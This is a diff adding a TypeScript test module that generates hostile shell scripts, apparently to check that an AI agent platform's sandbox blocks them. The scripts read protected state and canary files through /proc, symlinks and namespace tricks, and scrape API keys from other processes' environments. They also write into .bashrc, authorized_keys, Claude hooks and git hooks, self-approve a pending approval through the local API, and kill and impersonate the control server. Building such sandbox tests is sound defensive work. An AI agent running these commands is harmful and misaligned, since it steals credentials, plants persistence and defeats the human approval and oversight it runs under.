@@ -1,0 +1,106 @@
+/** What a hostile command tries, as shell scripts. Each of them would succeed without a sandbox, or find nothing to do. */
+
+/** What the script knows: more than an agent could find out. */
+export interface Known {
+  state: string
+  /** The owner's home directory. */
+  home: string
+  pid: number
+  apiUrl: string
+  /** Of a waiting approval. */
+  approvalId: string
+  /** That may chat: what a terminal of the same account has. */
+  token: string
+  gatewayUrl: string
+  credential: string
+  /** In the server's command line. */
+  pattern: string
+}
+
+/** Reads the state folder by every way that a command has. */
+export function readState({ state, pid }: Pick<Known, 'state' | 'pid'>): string {
+  return `
+S='${state}'
+for f in canary.txt config.jsonc cli-token server.json logs/dorkos.log dorkos.db dorkos.db-wal; do head -c 300000 "$S/$f"; done 2>&1 | strings | grep -a -E 'CANARY|dork_' | head -20
+echo "listed: $(ls -A "$S" | wc -l) found: $(find "$S" -type f | wc -l)"
+node -e "console.log(require('fs').readFileSync('$S/canary.txt', 'utf8'))" 2>&1 | grep -o 'CANARY[A-Za-z0-9-]*'
+ln -s "$S" link; cat link/canary.txt
+ln "$S/canary.txt" hard; cat hard
+for p in self 1 $PPID ${pid}; do cat "/proc/$p/root$S/canary.txt"; done
+cp -r "$S" copy; cat copy/canary.txt
+tar cf - "$S" 2>/dev/null | strings | grep -o 'CANARY[A-Za-z0-9-]*' | sort -u
+umount "$S"; unshare -rm sh -c "umount '$S'; cat '$S/canary.txt'"; nsenter -t ${pid} -m cat "$S/canary.txt"
+mv "$S" moved && cat moved/canary.txt
+cat control.txt
+`
+}
+
+/** Looks for keys in the environment and in other processes. Prints nothing else of those. */
+export function findKeys({ pid }: Pick<Known, 'pid'>): string {
+  const secrets = 'sk-test[a-z-]+|dorkos-session-[A-Za-z0-9_-]+|dork_[A-Za-z0-9_-]+'
+  return `
+env
+cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -aoE '${secrets}' | sort -u
+cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -aoE '${secrets}' | sort -u
+ps auxeww 2>/dev/null | grep -aoE '${secrets}' | sort -u
+test -e /proc/${pid}/status && echo "sees the server"
+echo "processes: $(ls -d /proc/[0-9]* | wc -l)"
+`
+}
+
+/** Writes into the state folder: a token, a rule, the configuration, the folders that are loaded from. */
+export function writeState({ state, home }: Pick<Known, 'state' | 'home'>): string {
+  const token = `insert into tokens (id, hash, record) values ('tok_hostile', '00', '{}')`
+  const rule = `insert into rules (id, record) values ('rule_hostile', '{}')`
+  return `
+S='${state}'; H='${home}'
+sqlite3 "$S/dorkos.db" "${token}; ${rule}"
+python3 -c 'import sqlite3,sys; c = sqlite3.connect(sys.argv[1]); c.execute(sys.argv[2]); c.commit()' "$S/dorkos.db" "${token}"
+echo '// hostile' >> "$S/config.jsonc"; echo hostile > "$S/cli-token"; echo hostile > "$S/new.txt"; rm -rf "$S/logs"
+for f in .bashrc .profile .zshenv .claude.json .claude/settings.json .claude/hooks/h.sh .ssh/authorized_keys new.txt; do mkdir -p "$H/$(dirname $f)"; echo hostile > "$H/$f"; done
+for f in .claude/settings.json .claude/settings.local.json .claude/hooks/h.sh .claude/skills/s/SKILL.md .mcp.json .git/hooks/pre-commit; do mkdir -p "$(dirname $f)"; echo hostile > "$f"; done
+echo written > in-workspace.txt
+`
+}
+
+/** Calls the server and the model gateway, with all that there is to know, by every way out. */
+export function callServer(known: Known, marker: string): string {
+  const { apiUrl, approvalId, token, gatewayUrl, credential } = known
+  const port = new URL(apiUrl).port
+  return `
+P=${port}
+for h in 127.0.0.1 localhost LOCALHOST. 127.1 2130706433 0x7f000001 0177.0.0.1 0.0.0.0 '[::1]' '[::]' '[::ffff:127.0.0.1]' $(hostname) $(hostname -I); do
+  curl -g -s -m 3 --noproxy '*' "http://$h:$P/api/${marker}"
+  for x in "$HTTP_PROXY" "$HTTPS_PROXY" "$ALL_PROXY"; do
+    test -n "$x" && curl -g -s -m 3 --noproxy '' -x "$x" "http://$h:$P/api/${marker}"
+    test -n "$x" && curl -g -s -m 3 --noproxy '' -x "$x" -p "http://$h:$P/api/${marker}"
+  done
+done
+for t in '' '${token}'; do
+  curl -s -m 3 -H "authorization: Bearer $t" "${apiUrl}/api/${marker}"
+  curl -s -m 3 -X POST -H "authorization: Bearer $t" -H 'content-type: application/json' -d '{"decision":"allow","scope":"once"}' "${apiUrl}/api/approvals/${approvalId}/answer"
+  curl -s -m 3 -X POST -H "authorization: Bearer $t" -H 'content-type: application/json' -d '{"title":"hostile"}' "${apiUrl}/api/sessions"
+done
+curl -s -m 3 -X POST -H 'authorization: Bearer ${credential}' -H 'content-type: application/json' -d '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hostile"}]}' "${gatewayUrl}/v1/messages"
+node -e "fetch('${apiUrl}/api/${marker}').then(r => console.log('reached', r.status), e => console.log('not reached'))"
+`
+}
+
+/** Ends the server, and takes its place. Never by a name that another program could have. */
+export function takeOver({ pid, pattern, apiUrl }: Pick<Known, 'pid' | 'pattern' | 'apiUrl'>): string {
+  const port = new URL(apiUrl).port
+  return `
+kill -9 ${pid}; pkill -9 -f '${pattern}'; fuser -k ${port}/tcp
+timeout 2 node -e "require('http').createServer((q, s) => s.end('hostile')).listen(${port}, '127.0.0.1', () => console.log('listens')).on('error', (e) => console.log(e.code))"
+`
+}
+
+/** Looks for the sockets by which sessions of the CLI talk to each other. */
+export function findSockets({ home }: Pick<Known, 'home'>): string {
+  return `
+env | grep MESSAGING
+for s in $(find '${home}' -type s 2>/dev/null | head -20); do
+  node -e "require('net').connect(process.argv[1]).on('connect', () => { console.log('connected'); process.exit() }).on('error', () => {})" "$s"
+done
+`
+}
